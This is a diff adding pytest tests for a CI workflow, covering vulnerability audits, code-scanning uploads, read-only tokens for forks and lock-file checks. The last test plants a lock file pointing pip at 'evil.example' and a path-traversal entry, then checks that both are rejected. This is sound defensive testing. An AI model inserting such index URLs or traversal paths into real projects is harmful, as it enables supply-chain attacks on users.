@@ -796,3 +796,258 @@ def test_ci_failed_tests_are_annotated_on_their_file(origin: Origin, tmp_path: P
         "::error file=services/api/tests/test_broken.py,line=2,"
         "title=test failed%3A services.api.tests.test_broken%3A%3Atest_broken::assert 1 == 2"
     ) in describe(tests)
+
+
+# ---------------------------------------------------------------------------
+# Main never wedges; write tokens stay away from dependency code (issue 20)
+
+
+def vulnerable_db(directory: Path) -> Path:
+    """An offline OSV database with an advisory against gamma 1.0 (locked by worker)."""
+    record = {
+        "id": "TEST-0002",
+        "modified": datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ"),
+        "affected": [{"package": {"ecosystem": "PyPI", "name": "gamma"}, "versions": ["1.0"]}],
+    }
+    write(directory / "TEST-0002.json", json.dumps(record))
+    return directory
+
+
+def run_ci(gha: Runner, jobs: tuple[str, ...]) -> dict[str, JobResult]:
+    """Run *jobs* in order, each given every earlier result it needs."""
+    results: dict[str, JobResult] = {}
+    for job in jobs:
+        declared = CI["jobs"][job].get("needs", [])
+        declared = [declared] if isinstance(declared, str) else declared
+        results[job] = gha.run_job(job, {name: results[name] for name in declared})
+    return results
+
+
+EVERY_JOB = (
+    "discover",
+    "freshness",
+    "audit",
+    "tests",
+    "lock-diff",
+    "code-scanning-files",
+    "code-scanning",
+    "all-green",
+)
+
+
+def test_ci_push_with_a_new_advisory_reports_it_without_stalling_the_tests_baseline(
+    origin: Origin, tmp_path: Path
+) -> None:
+    """The push stays green (the last green commit moves); code scanning gets every service's verdict."""
+    path, _ = last_green_shim(tmp_path / "shim", origin.base)
+    gha = runner(CI, origin, tmp_path / "jobs", push(origin.feature, origin.base), PATH=path)
+    gha.env["NOX_SUPPORT_OSV_DB"] = str(vulnerable_db(tmp_path / "osv"))
+    results = run_ci(gha, EVERY_JOB)
+    audit = results["audit"]
+    assert audit.result == "success", describe(audit)
+    worker = next(run for run in audit.runs if run.matrix["id"] == "worker")
+    assert "Session audit(worker) aborted: audit of worker: vulnerable" in "\n".join(worker.log)
+    assert "::warning::the audit failed (see reports/audit.md)" in "\n".join(worker.log)
+    assert all(run.permissions == {"contents": "read"} for run in audit.runs)
+    # One job packs the files (read-only), one job per file uploads them, running no repository code.
+    assert results["code-scanning-files"].result == "success", describe(results["code-scanning-files"])
+    upload = results["code-scanning"]
+    assert upload.result == "success", describe(upload)
+    assert [run.permissions for run in upload.runs] == [{"security-events": "write", "actions": "read"}]
+    uses = [step.get("uses", "") for step in CI["jobs"]["code-scanning"]["steps"]]
+    assert not any(step.get("run") for step in CI["jobs"]["code-scanning"]["steps"])
+    assert [u.split("@")[0] for u in uses] == [
+        "actions/download-artifact",
+        "github/codeql-action/upload-sarif",
+    ]
+    assert gha.code_scanning == [
+        (
+            "refs/heads/main",
+            ("nox-support-audit/api/", "nox-support-audit/web/", "nox-support-audit/worker/"),
+        )
+    ]
+    gate = results["all-green"]
+    assert gate.result == "success", describe(gate)
+    assert gate.name == "all green"
+
+
+def test_ci_nightly_fails_on_any_vulnerable_service(origin: Origin, tmp_path: Path) -> None:
+    github = {
+        "event_name": "schedule",
+        "sha": origin.base,
+        "ref": "refs/heads/main",
+        "event": {"schedule": "17 3 * * *", "repository": {"default_branch": "main"}},
+    }
+    gha = runner(CI, origin, tmp_path / "jobs", github)
+    gha.env["NOX_SUPPORT_OSV_DB"] = str(vulnerable_db(tmp_path / "osv"))
+    results = run_ci(gha, EVERY_JOB)
+    assert results["audit"].result == "failure"
+    assert results["code-scanning"].result == "success", describe(results["code-scanning"])
+    assert len(gha.code_scanning) == 1  # the findings still reach code scanning
+    assert results["all-green"].result == "failure"
+
+
+def removal_push(origin: Origin, tmp_path: Path, names: list[str]) -> tuple[Origin, str, str]:
+    """Main gets *names* as services (the last green commit), then a push removes them all."""
+    own = tmp_path / "origin.git"
+    shutil.copytree(origin.bare, own)
+    clone = tmp_path / "clone"
+    git(tmp_path, "clone", "-q", "-b", "main", str(own), str(clone))
+    for name in names:
+        service(clone, name, "alpha\n")
+    green = commit(clone, f"{len(names)} short-lived services")
+    for name in names:
+        shutil.rmtree(clone / "services" / name)
+    head = commit(clone, "remove them")
+    git(clone, "push", "-q", "origin", "main")
+    return dataclasses.replace(origin, bare=own), green, head
+
+
+def test_ci_push_removing_25_services_closes_their_alerts_in_uploads_of_at_most_20_runs(
+    origin: Origin, tmp_path: Path
+) -> None:
+    names = [f"gone{i:02}" for i in range(25)]
+    own, green, head = removal_push(origin, tmp_path, names)
+    path, _ = last_green_shim(tmp_path / "shim", green)
+    gha = runner(CI, own, tmp_path / "jobs", push(head, green), PATH=path)
+    results = {"discover": gha.run_job("discover", {})}
+    assert results["discover"].result == "success", describe(results["discover"])
+    assert results["discover"].outputs["removed_count"] == "25"
+    results["audit"] = JobResult("skipped")  # only the removed services matter here
+    results["code-scanning-files"] = gha.run_job("code-scanning-files", results)
+    assert results["code-scanning-files"].result == "success", describe(results["code-scanning-files"])
+    upload = gha.run_job("code-scanning", results)
+    assert upload.result == "success", describe(upload)
+    assert [len(categories) for _ref, categories in gha.code_scanning] == [20, 5]
+    closed = {c for _ref, categories in gha.code_scanning for c in categories}
+    assert closed == {f"nox-support-audit/{name}/" for name in names}
+
+
+def test_ci_code_scanning_is_one_switch(origin: Origin, tmp_path: Path) -> None:
+    path, _ = last_green_shim(tmp_path / "shim", origin.base)
+    gha = runner(CI, origin, tmp_path / "jobs", push(origin.base, origin.base), PATH=path)
+    gha.variables["NOX_SUPPORT_CODE_SCANNING"] = "false"
+    outputs = {**COUNTS, "removed_count": "3", "removed": "a b c"}
+    prepared = gha.run_job(
+        "code-scanning-files", {"discover": JobResult("success", outputs), "audit": JobResult("success")}
+    )
+    assert prepared.result == "skipped"
+    assert gha.run_job("code-scanning", {"code-scanning-files": prepared}).result == "skipped"
+    verdict = gate(
+        tmp_path / "gate",
+        origin.bare,
+        "push",
+        discover=("success", outputs),
+        freshness=("success", {}),
+        audit=("success", {}),
+        tests=("success", {}),
+        lock_diff=("skipped", {}),
+    )
+    assert verdict.result == "success", describe(verdict)
+
+
+def edited(sha: str, branch: str, *, base_changed: bool) -> dict[str, Any]:
+    github = pull_request(sha, branch)
+    github["event"]["action"] = github["action"] = "edited"
+    github["run_id"] = "777"
+    github["workflow"] = "ci"
+    github["event"]["changes"] = (
+        {"base": {"ref": {"from": "develop"}}} if base_changed else {"title": {"from": "x"}}
+    )
+    return github
+
+
+def test_ci_pull_request_whose_base_changed_is_checked_again(origin: Origin, tmp_path: Path) -> None:
+    gha = runner(CI, origin, tmp_path / "jobs", edited(origin.feature, "feature", base_changed=True))
+    discover = gha.run_job("discover", {})
+    assert discover.result == "success", describe(discover)
+    assert discover_ids(discover, "tests") == ["api", "web"]
+
+
+def test_ci_title_edit_runs_nothing_and_never_reports_all_green(origin: Origin, tmp_path: Path) -> None:
+    """A skipped `all green` would replace the commit's real verdict: the edit run's gate has another name."""
+    github = edited(origin.feature, "feature", base_changed=False)
+    gha = runner(CI, origin, tmp_path / "jobs", github)
+    results = {"discover": gha.run_job("discover", {})}
+    assert results["discover"].result == "skipped"
+    for job in ("freshness", "audit", "tests", "lock-diff"):
+        results[job] = gha.run_job(job, {k: v for k, v in results.items() if k in {"discover", "freshness"}})
+        assert results[job].result == "skipped"
+    results["code-scanning-files"] = gha.run_job("code-scanning-files", results)
+    results["code-scanning"] = gha.run_job("code-scanning", results)
+    verdict = gha.run_job("all-green", results)
+    assert verdict.result == "skipped"
+    assert verdict.name == "all green (text edit, not checked)"
+    # ... and the edit never cancels the pull request's real run (a group of its own).
+    context, functions = gha.context({}, {}, {}), gha.functions(ok=True)
+    group = to_text(evaluate(CI["concurrency"]["group"], context, functions))
+    synchronize = {**pull_request(origin.feature, "feature"), "workflow": "ci"}
+    real = to_text(evaluate(CI["concurrency"]["group"], {**context, "github": synchronize}, functions))
+    assert group != real
+    assert real.endswith("-checks")
+    with_base = edited(origin.feature, "feature", base_changed=True)
+    assert to_text(evaluate(CI["concurrency"]["group"], {**context, "github": with_base}, functions)) == real
+
+
+def test_ci_fork_pull_request_runs_every_check_with_a_read_only_token(origin: Origin, tmp_path: Path) -> None:
+    gha = runner(
+        CI, origin, tmp_path / "jobs", pull_request(origin.feature, "feature", head_repo="someone/fork")
+    )
+    gha.secrets["LOCK_REFRESH_APP_PRIVATE_KEY"] = "never-seen-by-forks"
+    assert gha.fork
+    assert gha.context({}, {}, {})["secrets"] == {}
+    results = run_ci(gha, ("discover", "freshness", "tests", "lock-diff"))
+    for job, result in results.items():
+        assert result.result == "success", (job, describe(result))
+        assert all("write" not in run.permissions.values() for run in result.runs)
+    assert gha.run_job("lock-diff-comment", {"lock-diff": results["lock-diff"]}).result == "skipped"
+    # The emulator refuses what a fork's token cannot do: an upload holding security-events: write.
+    artifact = tmp_path / "artifact"
+    write(artifact / "code-scanning-1.sarif", json.dumps({"runs": [{"automationDetails": {"id": "x/"}}]}))
+    gha.artifacts["code-scanning"] = artifact
+    matrix = json.dumps({"include": [{"file": "code-scanning-1.sarif"}]})
+    prepared = JobResult("success", {"sarif_count": "1", "sarif_matrix": matrix})
+    refused = gha.run_job("code-scanning", {"code-scanning-files": prepared})
+    assert refused.result == "failure"
+    assert "Resource not accessible by integration (security-events)" in describe(refused)
+
+
+def test_ci_setup_action_refuses_a_root_that_is_not_nox_support(origin: Origin, tmp_path: Path) -> None:
+    """source: checkout where the root pyproject.toml has no [project]: one clear error."""
+    clone = tmp_path / "clone"
+    git(tmp_path, "clone", "-q", "-b", "main", str(origin.bare), str(clone))
+    git(clone, "switch", "-q", "-c", "checkout-source")
+    action = clone / ".github/actions/setup-nox-support/action.yml"
+    action.write_text(action.read_text().replace("    default: lock\n", "    default: checkout\n"))
+    sha = commit(clone, "install nox-support from the checkout")
+    git(clone, "push", "-q", "origin", "checkout-source")
+    result = runner(CI, origin, tmp_path / "jobs", pull_request(sha, "checkout-source")).run_job(
+        "discover", {}
+    )
+    assert result.result == "failure"
+    assert (
+        "::error file=pyproject.toml,title=not nox-support's repository::the root pyproject.toml is not "
+        "nox-support's own, so source: checkout cannot install nox-support"
+    ) in describe(result)
+    assert "Build the job matrices from nox -l --json" not in describe(result)
+
+
+def test_lock_refresh_refuses_a_lock_with_options_before_pushing(origin: Origin, tmp_path: Path) -> None:
+    """The lock job ran repository code: its files are checked by shape, with grep, before the push."""
+    artifact = tmp_path / "artifact"
+    write(
+        artifact / "locks/services/api/requirements.txt",
+        "--extra-index-url https://evil.example/simple\nbeta==1.1 \\\n    --hash=sha256:" + "0" * 64 + "\n",
+    )
+    write(artifact / "locks/services/web/requirements.local.txt", "../../../../../etc\n")
+    git(origin.bare, "branch", "planted", origin.feature)
+    gha = runner(LOCK_REFRESH, origin, tmp_path / "jobs", pull_request(origin.feature, "planted"))
+    gha.artifacts["lock-refresh"] = artifact
+    result = gha.run_job("push", {"lock": JobResult("success", {"changed": "true"})})
+    assert result.result == "failure"
+    log = describe(result)
+    assert "::error file=services/api/requirements.txt,title=not a lock::" in log
+    assert "1:--extra-index-url https://evil.example/simple" in log
+    assert "::error file=services/web/requirements.local.txt,title=not a lock::" in log
+    assert "../../../../../etc (outside the repository)" in log
+    assert git(origin.bare, "rev-parse", "planted").strip() == origin.feature  # nothing pushed
